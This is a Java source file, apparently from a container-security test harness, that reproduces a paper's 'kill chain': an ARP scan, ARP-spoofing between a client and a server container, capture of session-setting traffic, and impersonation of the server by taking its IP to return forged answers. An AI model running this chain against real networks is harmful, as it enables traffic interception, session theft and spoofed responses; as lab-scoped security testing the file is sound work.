package dev.bastion.agent.attack;

import java.util.ArrayList;
import java.util.List;

/**
 * The paper's Figure 10, end to end: the compromised container scans its network, ARP-spoofs itself between the
 * client and the server (nginx-user and redis-user), captures what the client sends, then takes the server's
 * place and answers the client with forged content. Proven by the client receiving the attacker's answer as the
 * server's. The chain stops at the first step that fails.
 */
final class KillChain implements Attack {

    @Override
    public String name() {
        return "kill-chain";
    }

    @Override
    public String goal() {
        return "scan, ARP-spoof client<->server, capture, forge the server's answers (Figure 10)";
    }

    @Override
    public Component component() {
        return Component.DIRECT_ARP;
    }

    @Override
    public Finding attempt(AttackLab lab) {
        Cast cast = lab.cast();
        String client = Cast.ip(cast.client());
        String server = Cast.ip(cast.server());
        int port = cast.serverPort();
        List<String> steps = new ArrayList<>();

        List<String> up = ArpScanNmap.hostsUp(lab, Discovery.block(cast, 24), List.of("-PR"));
        boolean found = up.contains(client) && up.contains(server);
        steps.add("1 scan: " + (found ? "found" : "did not find") + " " + client + " and " + server);
        if (!found) {
            return broken(steps);
        }
        try (ManInTheMiddle mitm = new ManInTheMiddle(lab, cast.client(), cast.server())) {
            steps.add("2 spoof: " + mitm.describe());
            if (!mitm.inPlace()) {
                return broken(steps);
            }
            long captured;
            List<String> secrets;
            try (Capture capture = lab.capture(cast.attacker(), "tcp and port " + port)) {
                secrets = SpoofedEavesdropping.clientRequests(lab, "SET session ");
                captured = secrets.stream().filter(capture::carries).count();
            }
            steps.add("3 capture: read " + captured + " of " + secrets.size() + " requests ('" + secrets.get(0) + "' ...)");
            if (captured == 0) {
                return broken(steps);
            }
            String answer = impersonateServer(lab);
            boolean forged = answer.startsWith(cast.attacker().name() + ":");
            steps.add("4 forge: " + cast.client().name() + " asked " + server + " and was answered '" + answer + "'");
            return Finding.effect(forged, String.join("; ", steps));
        }
    }

    /** The attacker takes the server's IP and answers in its place; what the client gets (asking up to three times). */
    private static String impersonateServer(AttackLab lab) {
        Cast cast = lab.cast();
        String address = Cast.ip(cast.server()) + "/32";
        lab.run(cast.attacker(), List.of("ip", "addr", "add", address, "dev", "eth0"));
        try (Listener fake = lab.listen(cast.attacker(), cast.serverPort())) {
            String answer = "no answer";
            for (int i = 0; i < 3 && !answer.startsWith(cast.attacker().name() + ":"); i++) {
                answer = lab.request(cast.client(), Cast.ip(cast.server()), cast.serverPort(), "GET session").orElse("no answer");
            }
            return answer;
        } finally {
            lab.run(cast.attacker(), List.of("ip", "addr", "del", address, "dev", "eth0"));
        }
    }

    private static Finding broken(List<String> steps) {
        return Finding.effect(false, String.join("; ", steps) + " -- the chain broke here");
    }
}
